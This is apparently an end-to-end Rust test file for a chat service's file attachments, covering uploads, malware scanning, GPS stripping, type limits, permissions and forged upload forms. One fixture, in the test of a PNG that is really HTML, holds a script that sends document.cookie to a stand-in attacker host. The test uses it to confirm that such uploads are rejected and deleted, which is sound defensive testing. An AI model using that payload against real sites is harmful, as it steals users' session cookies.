//! Attachments end to end, on the local gateway's own bucket (SQLite: it verifies the upload
//! form and checks the file itself) and on a bucket of the moto server (DynamoDB: the check runs
//! as S3's event would start it): upload, check, download, refusals, limits and who may do what.

use aws_sdk_s3::types::{Tag, Tagging};
use reqwest::Method;
use serde_json::{json, Value};
use switchboard_shared::attachments::bucket::SignedBucketObjects;
use switchboard_shared::attachments::store::{AttachmentObjects, SCAN_CLEAN, SCAN_TAG, SCAN_THREATS};
use switchboard_shared::ops::attachments::Scanner;
use switchboard_tests::{arranged, assigned_session, open_session, Backend, Caller, Reply, TestApi};

/// A 1×1 PNG.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\x0aIDATx\x9cc\0\x01\0\0\x05\0\x01\x0d\x0a\x2d\xb4\0\0\0\0IEND\xaeB\x60\x82";

/// A JPEG whose EXIF segment holds a GPS position.
fn jpeg_with_gps() -> Vec<u8> {
    let mut file = vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10];
    file.extend(b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00");
    let exif = b"Exif\0\0GPSLatitude 48.8584 N GPSLongitude 2.2945 E";
    file.extend([0xFF, 0xE1, 0x00, u8::try_from(exif.len() + 2).unwrap()]);
    file.extend(exif);
    file.extend([0xFF, 0xDA, 0x00, 0x02, 0x12, 0x34, 0xFF, 0xD9]);
    file
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

async fn request_upload(
    api: &TestApi,
    caller: Caller,
    session: &str,
    name: &str,
    mime: &str,
    size: usize,
) -> Reply {
    let body = json!({"file_name": name, "content_type": mime, "size": size});
    caller.call(api, Method::POST, &format!("/chat/sessions/{session}/attachments"), Some(body)).await
}

/// Posts an upload form as a browser does: its fields (`fields` may override some), then the
/// file. The status and the body.
async fn post_form(form: &Value, overrides: &[(&str, &str)], bytes: &[u8]) -> (u16, String) {
    let boundary = "----switchboard-test-boundary";
    let mut body = Vec::new();
    let mut fields: Vec<(String, String)> = form["fields"]
        .as_object()
        .expect("the form's fields")
        .iter()
        .map(|(name, value)| (name.clone(), value.as_str().unwrap_or_default().to_owned()))
        .collect();
    for (name, value) in overrides {
        match fields.iter_mut().find(|(n, _)| n == name) {
            Some(field) => field.1 = (*value).to_owned(),
            None => fields.push(((*name).to_owned(), (*value).to_owned())),
        }
    }
    for (name, value) in fields {
        body.extend(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                .bytes(),
        );
    }
    body.extend(
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: application/octet-stream\r\n\r\n").bytes(),
    );
    body.extend(bytes);
    body.extend(format!("\r\n--{boundary}--\r\n").bytes());
    let response = reqwest::Client::new()
        .post(form["url"].as_str().expect("the form's url"))
        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
        .body(body)
        .send()
        .await
        .expect("the bucket answers");
    let status = response.status().as_u16();
    (status, response.text().await.unwrap_or_default())
}

/// Asks for an upload, posts the file and lets the bucket's event run the check: the
/// attachment's id.
async fn upload(
    api: &TestApi,
    caller: Caller,
    session: &str,
    name: &str,
    mime: &str,
    bytes: &[u8],
) -> String {
    let reply = arranged(
        request_upload(api, caller, session, name, mime, bytes.len()).await,
        201,
        "an upload is requested",
    );
    let (status, text) = post_form(&reply.body["upload"], &[], bytes).await;
    assert!(status == 204 || status == 200, "the upload was refused: {status} {text}");
    api.attachments_event(reply.body["upload"]["fields"]["key"].as_str().unwrap_or_default(), Scanner::None)
        .await;
    reply.body["attachment"]["id"].as_str().expect("an attachment id").to_owned()
}

async fn download(api: &TestApi, caller: Caller, session: &str, id: &str) -> Reply {
    caller.call(api, Method::GET, &format!("/chat/sessions/{session}/attachments/{id}"), None).await
}

async fn a_customers_screenshot_is_checked_announced_and_opened_by_the_agent_inline(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let mut agent = api.connect(&Caller::AgentX.token(&api)).await;
    agent.subscribe(&session).await;

    // Act
    let requested =
        request_upload(&api, Caller::CustomerA, &session, "error screen.png", "image/png", PNG.len()).await;
    let (status, text) = post_form(&requested.body["upload"], &[], PNG).await;
    let key = requested.body["upload"]["fields"]["key"].as_str().unwrap_or_default().to_owned();
    api.attachments_event(&key, Scanner::None).await;
    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default().to_owned();
    let announced = agent.expect("attachment.updated").await;
    let link = download(&api, Caller::AgentX, &session, &id).await;
    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");

    // Assert
    assert_eq!(requested.status, 201, "{:?}", requested.body);
    assert_eq!(requested.body["attachment"]["status"], "pending");
    assert_eq!(requested.body["upload"]["fields"]["Content-Type"], "image/png");
    assert!(status == 204 || status == 200, "{status} {text}");
    assert_eq!(announced["attachment"]["id"], id.as_str());
    assert_eq!(announced["attachment"]["status"], "ready");
    assert_eq!(link.status, 200, "{:?}", link.body);
    assert_eq!(file.status(), 200);
    let header =
        |name: &str| file.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert_eq!(header("content-type"), "image/png");
    assert!(
        header("content-disposition").starts_with("inline; filename=\"error screen.png\""),
        "{}",
        header("content-disposition")
    );
    assert_eq!(file.bytes().await.expect("the file").as_ref(), PNG);
    assert_eq!(announced["attachment"]["has_thumbnail"], true);
    let thumbnail = reqwest::get(link.body["thumbnail_url"].as_str().expect("a thumbnail link"))
        .await
        .expect("the thumbnail link answers");
    assert_eq!(thumbnail.headers().get("content-type").and_then(|v| v.to_str().ok()), Some("image/jpeg"));
    assert!(thumbnail.bytes().await.expect("the thumbnail").starts_with(&[0xFF, 0xD8, 0xFF]), "a JPEG");
}

async fn a_png_that_is_really_html_is_rejected_and_never_served(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let html = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>";

    // Act
    let id = upload(&api, Caller::CustomerA, &session, "cute cat.png", "image/png", html).await;
    let as_agent = download(&api, Caller::AgentX, &session, &id).await;

    // Assert
    assert_eq!((as_agent.status, as_agent.error_code()), (409, "attachment_rejected"), "{:?}", as_agent.body);
    let key = format!("attachments/{session}/{id}");
    assert_eq!(
        api.attachment_objects.get(&key).await.expect("the bucket answers"),
        None,
        "the file is deleted"
    );
}

async fn an_oversized_upload_never_becomes_ready(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let requested = arranged(
        request_upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG.len()).await,
        201,
        "an upload",
    );
    let mut bigger = PNG.to_vec();
    bigger.extend([0u8; 4096]);

    // Act
    let (status, _) = post_form(&requested.body["upload"], &[], &bigger).await;
    let checked = api
        .attachments_event(
            requested.body["upload"]["fields"]["key"].as_str().unwrap_or_default(),
            Scanner::None,
        )
        .await;
    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default();
    let as_agent = download(&api, Caller::AgentX, &session, id).await;

    // Assert
    match backend {
        // The gateway enforces the policy's content-length-range, as S3 does.
        Backend::Sqlite => {
            assert_eq!(status, 400);
            assert_eq!(as_agent.error_code(), "attachment_not_ready");
        }
        // moto stores it; the check refuses it.
        Backend::DynamoDb => {
            assert_eq!(checked.expect("the check ran")["checked"][0]["reason"], "too_large");
            assert_eq!(as_agent.error_code(), "attachment_rejected");
        }
    }
}

async fn a_jpegs_gps_position_is_stripped_before_anyone_downloads_it(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let jpeg = jpeg_with_gps();

    // Act
    let id = upload(&api, Caller::CustomerA, &session, "holiday.jpg", "image/jpeg", &jpeg).await;
    let link = download(&api, Caller::AgentX, &session, &id).await;
    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");
    let bytes = file.bytes().await.expect("the file");

    // Assert
    assert_eq!(link.status, 200, "{:?}", link.body);
    assert!(contains(&jpeg, b"GPSLatitude"));
    assert!(!contains(&bytes, b"GPSLatitude") && !contains(&bytes, b"Exif"), "{bytes:?}");
    assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]));
}

async fn a_pdf_downloads_as_an_attachment_with_its_name(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let pdf = b"%PDF-1.7 invoice";

    // Act
    let id = upload(&api, Caller::AgentX, &session, "facture n°7.pdf", "application/pdf", pdf).await;
    let link = download(&api, Caller::CustomerA, &session, &id).await;
    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");

    // Assert
    let disposition = file
        .headers()
        .get("content-disposition")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(disposition.starts_with("attachment; filename=\"facture n_7.pdf\""), "{disposition}");
    assert!(disposition.contains("filename*=UTF-8''facture%20n%C2%B07.pdf"), "{disposition}");
    assert_eq!(file.bytes().await.expect("the file").as_ref(), pdf);
}

async fn refused_types_sizes_and_a_full_session_get_their_422_codes(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let ask = |name: &'static str, mime: &'static str, size: usize| {
        let (api, session) = (&api, &session);
        async move {
            request_upload(api, Caller::CustomerA, session, name, mime, size).await.error_code().to_owned()
        }
    };

    // Act
    let refusals = [
        ask("logo.svg", "image/svg+xml", 10).await,
        ask("page.html", "text/html", 10).await,
        ask("invoice.pdf.html", "application/pdf", 10).await,
        ask("setup.exe", "application/x-msdownload", 10).await,
        ask("huge.png", "image/png", 10 * 1024 * 1024 + 1).await,
        ask("empty.txt", "text/plain", 0).await,
    ];
    for n in 0..100 {
        let reply =
            request_upload(&api, Caller::CustomerA, &session, &format!("log-{n}.txt"), "text/plain", 3).await;
        arranged(reply, 201, "an upload request within the session's limit");
    }
    let one_too_many = ask("log-100.txt", "text/plain", 3).await;

    // Assert
    assert_eq!(
        refusals,
        [
            "attachment_type_forbidden",
            "attachment_type_forbidden",
            "attachment_type_forbidden",
            "attachment_type_not_allowed",
            "attachment_too_large",
            "attachment_empty"
        ]
    );
    assert_eq!(one_too_many, "too_many_attachments_in_session");
}

async fn only_participants_upload_and_only_readers_download(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let id = upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG).await;
    let other = open_session(&api, Caller::CustomerB, "something else").await;

    // Act
    let uploads: Vec<(Caller, u16, String)> = futures::future::join_all(Caller::ALL.map(|caller| {
        let (api, session) = (&api, &session);
        async move {
            let reply = request_upload(api, caller, session, "b.png", "image/png", PNG.len()).await;
            (caller, reply.status, reply.error_code().to_owned())
        }
    }))
    .await;
    let downloads: Vec<(Caller, u16, String)> = futures::future::join_all(Caller::ALL.map(|caller| {
        let (api, session, id) = (&api, &session, &id);
        async move {
            let reply = download(api, caller, session, id).await;
            (caller, reply.status, reply.error_code().to_owned())
        }
    }))
    .await;
    let through_another_session = download(&api, Caller::CustomerB, &other, &id).await;

    // Assert
    let statuses = |results: &[(Caller, u16, String)]| {
        results.iter().map(|(c, s, e)| (c.id(), *s, e.clone())).collect::<Vec<_>>()
    };
    assert_eq!(
        statuses(&uploads),
        [
            (Caller::CustomerA.id(), 201, String::new()),
            (Caller::CustomerB.id(), 404, "session_not_found".into()),
            (Caller::AgentX.id(), 201, String::new()),
            (Caller::AgentY.id(), 404, "session_not_found".into()),
            (Caller::Admin.id(), 403, "not_a_participant".into()),
        ]
    );
    assert_eq!(
        statuses(&downloads),
        [
            (Caller::CustomerA.id(), 200, String::new()),
            (Caller::CustomerB.id(), 404, "session_not_found".into()),
            (Caller::AgentX.id(), 200, String::new()),
            (Caller::AgentY.id(), 404, "session_not_found".into()),
            (Caller::Admin.id(), 200, String::new()),
        ]
    );
    assert_eq!(through_another_session.error_code(), "attachment_not_found");
}

async fn messages_of(api: &TestApi, session: &str) -> Vec<Value> {
    let reply = Caller::AgentX.call(api, Method::GET, &format!("/chat/messages/{session}"), None).await;
    reply.body["items"].as_array().cloned().unwrap_or_default()
}

async fn a_message_of_attachments_only_reaches_the_agent_and_the_transcript_names_them(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let shot = upload(&api, Caller::CustomerA, &session, "error.png", "image/png", PNG).await;
    let log = upload(&api, Caller::CustomerA, &session, "app.log", "text/x-log", b"12:00 crash\n").await;
    let mut agent = api.connect(&Caller::AgentX.token(&api)).await;
    agent.subscribe(&session).await;

    // Act
    let body = json!({"session_id": session, "attachments": [shot, log], "client_message_id": "m-1"});
    let sent = Caller::CustomerA.call(&api, Method::POST, "/chat/messages", Some(body.clone())).await;
    let again = Caller::CustomerA.call(&api, Method::POST, "/chat/messages", Some(body)).await;
    let live = agent.expect("message.created").await;
    let transcript = Caller::AgentX
        .call(
            &api,
            Method::GET,
            &format!("/admin/chat-dashboard/sessions/{session}/transcript?format=csv"),
            None,
        )
        .await;
    let text = api
        .fetch(
            &format!("/admin/chat-dashboard/sessions/{session}/transcript?format=text"),
            &Caller::AgentX.token(&api),
        )
        .await;

    // Assert
    assert_eq!(sent.status, 201, "{:?}", sent.body);
    assert_eq!(again.status, 200, "a retry returns the original: {:?}", again.body);
    let names: Vec<&str> = live["message"]["attachments"]
        .as_array()
        .expect("attachments")
        .iter()
        .filter_map(|a| a["file_name"].as_str())
        .collect();
    assert_eq!(names, ["error.png", "app.log"]);
    assert_eq!(live["message"]["attachments"][0]["id"], shot.as_str());
    assert_eq!(live["message"]["body"], "");
    assert_eq!(transcript.status, 200);
    assert!(text.text.contains("[attachment: error.png] [attachment: app.log]"), "{}", text.text);
    let stored = download(&api, Caller::AgentX, &session, &shot).await;
    assert_eq!(stored.body["attachment"]["message_id"], sent.body["id"]);
    let export = api.fetch("/admin/reports/conversations.csv", &Caller::Admin.token(&api)).await;
    let mut reader = csv::Reader::from_reader(export.text.as_bytes());
    let header = reader.headers().expect("a header").clone();
    let column = header.iter().position(|name| name == "attachments").expect("an attachments column");
    let row = reader.records().map(|r| r.expect("a row")).find(|r| r.get(0) == Some(session.as_str()));
    assert_eq!(row.expect("the session's row").get(column), Some("error.png; app.log"));
}

async fn a_customer_sends_a_screenshot_with_text_over_the_websocket(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let shot = upload(&api, Caller::CustomerA, &session, "error.png", "image/png", PNG).await;
    let mut customer = api.connect(&Caller::CustomerA.token(&api)).await;
    customer.subscribe(&session).await;

    // Act
    let reply = customer
        .request(json!({"action": "send_message", "session_id": session, "body": "this is what I see", "attachments": [shot]}))
        .await;

    // Assert
    assert_eq!(reply["type"], "message.created", "{reply}");
    assert_eq!(reply["message"]["body"], "this is what I see");
    assert_eq!(reply["message"]["attachments"][0]["file_name"], "error.png");
}

async fn sends_with_attachments_that_are_not_the_senders_to_send_store_nothing(backend: Backend) {
    // Arrange
    let api = TestApi::start(backend).await;
    let session = assigned_session(&api).await.session;
    let mut mine = Vec::new();
    for n in 0..6 {
        mine.push(
            upload(&api, Caller::CustomerA, &session, &format!("shot-{n}.png"), "image/png", PNG).await,
        );
    }
    let rejected = upload(&api, Caller::CustomerA, &session, "fake.png", "image/png", b"<html></html>").await;
    let agents = upload(&api, Caller::AgentX, &session, "guide.pdf", "application/pdf", b"%PDF-1.7").await;
    let other = open_session(&api, Caller::CustomerB, "another one").await;
    let elsewhere = upload(&api, Caller::CustomerB, &other, "x.png", "image/png", PNG).await;
    let sent_before = mine[5].clone();
    let first = json!({"session_id": session, "body": "first", "attachments": [sent_before]});
    arranged(
        Caller::CustomerA.call(&api, Method::POST, "/chat/messages", Some(first)).await,
        201,
        "a first send",
    );
    let before = messages_of(&api, &session).await;
    let send = |attachments: Value, body: Option<&str>| {
        let (api, session) = (&api, &session);
        let mut message = json!({"session_id": session, "attachments": attachments});
        if let Some(body) = body {
            message["body"] = json!(body);
        }
        async move {
            Caller::CustomerA
                .call(api, Method::POST, "/chat/messages", Some(message))
                .await
                .error_code()
                .to_owned()
        }
    };

    // Act
    let refusals = [
        send(json!(mine), Some("six")).await,
        send(json!([mine[0], mine[0]]), Some("twice")).await,
        send(json!([rejected]), None).await,
        send(json!([agents]), None).await,
        send(json!([elsewhere]), None).await,
        send(json!([sent_before]), None).await,
        send(json!([]), None).await,
    ];

    // Assert
    assert_eq!(
        refusals,
        [
            "too_many_attachments",
            "invalid_attachment",
            "invalid_attachment",
            "invalid_attachment",
            "invalid_attachment",
            "invalid_attachment",
            "validation_failed"
        ]
    );
    assert_eq!(messages_of(&api, &session).await, before, "nothing was stored");
}

switchboard_tests::on_both_backends!(
    a_customers_screenshot_is_checked_announced_and_opened_by_the_agent_inline,
    a_png_that_is_really_html_is_rejected_and_never_served,
    an_oversized_upload_never_becomes_ready,
    a_jpegs_gps_position_is_stripped_before_anyone_downloads_it,
    a_pdf_downloads_as_an_attachment_with_its_name,
    refused_types_sizes_and_a_full_session_get_their_422_codes,
    only_participants_upload_and_only_readers_download,
    a_message_of_attachments_only_reaches_the_agent_and_the_transcript_names_them,
    a_customer_sends_a_screenshot_with_text_over_the_websocket,
    sends_with_attachments_that_are_not_the_senders_to_send_store_nothing,
);

/// The local bucket refuses what S3 refuses: a forged signature, a form whose fields were
/// changed (another type, another key), an expired link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_bucket_refuses_forged_and_altered_uploads_and_links() {
    // Arrange
    let api = TestApi::start(Backend::Sqlite).await;
    let session = assigned_session(&api).await.session;
    let requested = arranged(
        request_upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG.len()).await,
        201,
        "an upload",
    );
    let form = &requested.body["upload"];
    let other_key = format!("attachments/{session}/{}", switchboard_shared::domain::AttachmentId::generate());

    // Act
    let forged = post_form(form, &[("x-amz-signature", &"0".repeat(64))], PNG).await.0;
    let retyped = post_form(form, &[("Content-Type", "text/html")], PNG).await.0;
    let moved = post_form(form, &[("key", &other_key)], PNG).await.0;
    let uploaded = post_form(form, &[], PNG).await.0;
    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default();
    let url = download(&api, Caller::AgentX, &session, id).await.body["url"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let as_attachment =
        url.replace("response-content-disposition=inline", "response-content-disposition=attachment");
    let altered = reqwest::get(&as_attachment).await.expect("the gateway answers").status().as_u16();
    let unsigned = reqwest::get(url.split('?').next().unwrap_or_default())
        .await
        .expect("the gateway answers")
        .status()
        .as_u16();

    // Assert
    assert_eq!((forged, retyped, moved), (403, 403, 403));
    assert_eq!(uploaded, 204);
    assert_eq!((altered, unsigned), (403, 403));
}

/// With GuardDuty Malware Protection configured, an attachment waits for the scanner's tag on
/// its object (moto's object tagging): clean makes it ready, a threat rejects it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_a_scanner_an_attachment_is_ready_only_after_a_clean_verdict() {
    // Arrange
    let api = TestApi::start(Backend::DynamoDb).await;
    let session = assigned_session(&api).await.session;
    let (links, objects) = switchboard_tests::test_attachments_bucket().await;
    let signed = SignedBucketObjects::new(&links).expect("the bucket's objects");
    let mut keys = Vec::new();
    for name in ["clean.png", "infected.png"] {
        let reply = request_upload(&api, Caller::CustomerA, &session, name, "image/png", PNG.len()).await;
        let key = arranged(reply, 201, "an upload").body["upload"]["fields"]["key"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        objects.put(&key, PNG.to_vec(), "image/png").await.expect("the upload");
        keys.push(key);
    }
    let tag = |key: String, verdict: &'static str| {
        let objects = &objects;
        async move {
            let tag = Tag::builder().key(SCAN_TAG).value(verdict).build().expect("a tag");
            let tagging = Tagging::builder().tag_set(tag).build().expect("a tag set");
            let client = objects.client().expect("an S3 client");
            client
                .put_object_tagging()
                .bucket(objects.bucket())
                .key(key)
                .tagging(tagging)
                .send()
                .await
                .expect("tagged");
        }
    };
    let check = |key: &str| {
        let event = json!({"source": "aws.guardduty", "detail": {"s3ObjectDetails": {"objectKey": key}}});
        switchboard_attachments::check(&api.app, &signed, Scanner::GuardDuty, event)
    };

    // Act
    let before_verdict = check(&keys[0]).await.expect("a check");
    tag(keys[0].clone(), SCAN_CLEAN).await;
    tag(keys[1].clone(), SCAN_THREATS).await;
    let clean = check(&keys[0]).await.expect("a check");
    let infected = check(&keys[1]).await.expect("a check");

    // Assert
    assert_eq!(before_verdict, json!({"checked": []}), "still pending without a verdict");
    assert_eq!(clean["checked"][0]["status"], "ready", "{clean}");
    assert_eq!(
        (infected["checked"][0]["status"].as_str(), infected["checked"][0]["reason"].as_str()),
        (Some("rejected"), Some("malware"))
    );
    assert_eq!(objects.get(&keys[1]).await.expect("the bucket answers"), None, "an infected file is deleted");
}
